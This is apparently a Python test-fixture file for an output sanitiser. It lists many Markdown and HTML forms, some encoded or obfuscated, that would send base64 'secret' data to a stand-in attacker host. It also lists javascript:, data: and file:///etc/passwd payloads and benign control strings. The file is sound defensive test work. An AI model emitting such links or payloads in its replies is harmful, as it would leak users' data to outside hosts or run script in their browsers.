"""Addresses in every form that a client's page or a Markdown reader might follow, for tests of the output."""

from __future__ import annotations

HOST = "collect.evil-host.example"
ALLOWED = ("docs.firma.example", "*.cdn.example")
#: What carries data out; in each the host must be gone.
CARRIERS = (
    f"![chart](https://{HOST}/p.png?d=c2VjcmV0)",
    f'![](https://{HOST}/c2VjcmV0.png "title")',
    f"![a](<https://{HOST}/with blank?d=1>)",
    f"![a](//{HOST}/p.png)",
    f"![a](\\\\{HOST}\\p)",
    f"![a](http&#115;://{HOST}/p)",
    f"![a](https&colon;//{HOST}/p)",
    f"![a](\n  https://{HOST}/p)",
    f"[![icon](https://{HOST}/i.png)](https://{HOST}/page)",
    f"[see here](https://{HOST}/page)",
    f"[see [all] here](HTTPS://{HOST}/page)",
    f"[see](https://docs.firma.example@{HOST}/page)",
    f"[see](https://docs.firma.example/go?to=https%3A%2F%2F{HOST}/x)",
    f"[see](https://docs.firma.example/go?to=https%253A%252F%252F{HOST}/x)",
    f"[see](https://img.cdn.example/proxy/https://{HOST}/x)",
    f"[see](/go?to=//{HOST}/x)",
    f"[see](https:{HOST}/x)",
    f"[see](mailto:x@{HOST}?body=c2VjcmV0)",
    f"![chart][1]\n\n[1]: https://{HOST}/p.png?d=1",
    f"![chart][one]\n\n[one]:\n  <https://{HOST}/p.png> 'title'",
    f"![a][1]\n\n[0]:\n[1]: &#104;ttps://{HOST}/p",
    f"![a][x]\n\n[https://x.example/?d]: /y\n[x]:\n\n[x]: //{HOST}/p",
    f'<img src="https://{HOST}/p.png?d=1">',
    f"<img alt=x src=https://{HOST}/p.png?d=1>",
    f"<IMG SRC = '//{HOST}/p.png'>",
    f'<img src="ht\ntps://{HOST}/p.png">',
    f'<img srcset="/a.png 1x, https://{HOST}/b.png 2x">',
    f'<a href="https://{HOST}/page">here</a>',
    f'<video poster="https://{HOST}/p.png"></video>',
    f"<div style='background:url(https://{HOST}/p.png)'>",
    f'<style>@import url("https://{HOST}/s.css");</style>',
    f"<https://{HOST}/?d=c2VjcmV0>",
    f"Open https://{HOST}/?d=c2VjcmV0.",
    f"Open https://{HOST}/{'c2VjcmV0' * 9} now",
    f"Open www.{HOST}/?d=c2VjcmV0 now",
    f"[https://x.example/](https://{HOST}/x)",
    f"![a](https://{HOST}/{'x' * 900})",
    f'<img src="https://{HOST}/{"x y" * 300}">',
)
#: Addresses that run or show what the model wrote.
SCRIPTS = (
    "[click](javascript:alert(1))",
    "[click](JaVa&#115;cript:alert(1))",
    '<a href="java\nscript:alert(1)">x</a>',
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: vbscript:msgbox(1)",
    "<javascript:alert(1)>",
    '<img src="file:///etc/passwd">',
)
#: What must stay as it is.
HARMLESS = (
    "See [the manual](https://docs.firma.example/a/b?c=d#e) for more.",
    "![logo](https://img.cdn.example/logo.png)",
    "[next](/docs/next.md#part) and [up](../index.html)",
    "[1]: Note: this is a footnote",
    "[call](tel:112)",
    "Empty: [x]() and [y]( ) and f[0](), a href= > b, url() end",
    "The home page is https://www.wikipedia.example/wiki/Tide.",
    "<a href='#top'>up</a>",
    "if (a[i](b) == c) { url(1); data = [x for x in y]; src=dst }",
    "a = b; action = run; href = None  # data: 5 rows",
    "Ratio 3:4, time 10:30, note: yes. f(x)=y [see](fig).",
)
